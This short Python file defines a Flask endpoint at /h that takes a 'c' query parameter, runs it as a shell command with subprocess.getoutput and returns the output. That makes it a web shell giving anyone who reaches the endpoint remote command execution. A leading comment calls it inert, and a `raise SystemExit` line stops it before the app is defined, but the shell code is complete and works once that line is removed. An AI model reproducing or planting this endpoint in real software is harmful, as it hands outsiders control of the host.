# Inert: it ends before it does anything.
raise SystemExit
from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.route("/h")
def h():
    return subprocess.getoutput(request.args.get("c"))
